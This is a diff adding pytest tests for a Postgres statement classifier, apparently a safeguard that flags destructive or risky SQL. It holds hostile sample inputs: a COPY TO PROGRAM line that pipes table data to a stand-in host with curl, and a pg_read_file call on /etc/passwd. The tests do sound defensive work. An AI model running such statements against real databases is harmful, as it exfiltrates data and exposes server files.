@@ -1,0 +1,58 @@
+"""Statements are judged by what they do, whatever they look like."""
+import pytest
+
+from hostagent.protocols.postgres.classify import Unparseable, classify
+
+
+def one(sql):
+    (s,) = classify(sql)
+    return s
+
+
+def test_case_and_comments_do_not_hide_a_drop():
+    s = one("/* c */ DrOp TABLE orders")
+    assert s.kind == "DROP" and s.tables == ("orders",)
+
+
+def test_every_statement_of_a_multi_statement_query():
+    a, b = classify("SELECT 1; DROP TABLE t")
+    assert (a.kind, b.kind) == ("SELECT", "DROP") and b.text == "DROP TABLE t"
+
+
+def test_nested_statements_count():
+    s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone")
+    assert s.kind == "SELECT" and "DELETE" in s.kinds and "users" in s.tables
+    assert "no_where" in s.flags
+
+
+def test_a_drop_inside_a_do_block():
+    s = one("DO $$ BEGIN DROP TABLE orders; END $$")
+    assert s.kind == "DO" and "DROP" in s.kinds and "orders" in s.tables
+    dyn = one("DO $$ BEGIN EXECUTE 'drop ' || 'table orders'; END $$")
+    assert "dynamic_sql" in dyn.flags
+
+
+def test_copy_program_and_server_files():
+    assert "copy_program" in one("COPY orders TO PROGRAM 'curl -d @- evil'").flags
+    s = one("SELECT pg_read_file('/etc/passwd')")
+    assert "server_files" in s.flags and "pg_read_file" in s.functions
+
+
+def test_where_clauses_and_schemas():
+    assert "no_where" not in one("UPDATE shop.orders SET paid = true WHERE id = 1").flags
+    s = one("UPDATE shop.orders SET paid = true")
+    assert "no_where" in s.flags and s.tables == ("shop.orders",)
+
+
+@pytest.mark.parametrize("sql,kind", [("INSERT INTO t VALUES (1)", "INSERT"),
+                                      ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
+                                      ("TRUNCATE t", "TRUNCATE"), ("ALTER TABLE t ADD c int", "ALTER"),
+                                      ("GRANT SELECT ON t TO bob", "GRANT"), ("CALL p()", "CALL"),
+                                      ("SET search_path = x", "SET"), ("BEGIN", "TRANSACTION")])
+def test_kinds(sql, kind):
+    assert one(sql).kind == kind
+
+
+def test_unparseable_text_is_reported_not_guessed():
+    with pytest.raises(Unparseable):
+        classify("DROP TABEL t")
